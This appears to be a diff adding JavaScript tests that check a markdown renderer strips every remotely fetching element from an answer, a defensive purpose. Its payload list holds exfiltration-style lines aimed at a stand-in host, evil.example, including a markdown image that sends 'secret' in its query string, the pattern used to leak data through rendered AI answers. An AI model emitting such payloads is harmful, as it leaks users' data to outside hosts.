@@ -42,3 +42,42 @@ describe('renderMarkdown', () => {
     expect(sanitizeHtml('<p><em>hi</em></p>')).toBe('<p><em>hi</em></p>');
   });
 });
+
+describe('renderMarkdown: nothing in an answer fetches on its own', () => {
+  const REMOTE = [
+    '![leak](https://evil.example/x.png?q=secret)',
+    '<img src="https://evil.example/a.png">',
+    '<img src="x" srcset="https://evil.example/b.png 2x">',
+    '<picture><source srcset="https://evil.example/c.png"><img src="https://evil.example/d.png"></picture>',
+    '<video poster="https://evil.example/e.png" src="https://evil.example/f.mp4"></video>',
+    '<audio src="https://evil.example/g.mp3"></audio>',
+    '<table background="https://evil.example/h.png"><tr><td background="https://evil.example/i.png">x</td></tr></table>',
+    '<a href="https://example.com" ping="https://evil.example/ping">p</a>',
+    '<iframe src="https://evil.example/frame"></iframe>',
+    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
+    '<link rel="stylesheet" href="https://evil.example/s.css">',
+    '<input type="image" src="https://evil.example/j.png">',
+  ];
+
+  it.each(REMOTE)('%s', (payload) => {
+    const root = toFragment(renderMarkdown(payload));
+    const fetching = [...root.querySelectorAll('*')].flatMap((element) =>
+      ['src', 'srcset', 'poster', 'background', 'ping', 'data'].filter((name) => element.hasAttribute(name)).map((name) => `${element.tagName} ${name}`),
+    );
+    expect(fetching).toEqual([]);
+    expect(root.querySelectorAll('img, video, audio, source, picture, iframe, object, embed, link, input')).toHaveLength(0);
+  });
+
+  it('turns a markdown image into a safe link labelled with its alt text', () => {
+    const root = toFragment(renderMarkdown('![the chart](https://example.com/chart.png)'));
+    const link = root.querySelector('a');
+    expect(link).toHaveTextContent('the chart');
+    expect(link).toHaveAttribute('href', 'https://example.com/chart.png');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
+  it('keeps an inline data: image (it requests nothing)', () => {
+    const root = toFragment(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)'));
+    expect(root.querySelector('img')).toHaveAttribute('src', 'data:image/png;base64,iVBORw0KGgo=');
+  });
+});
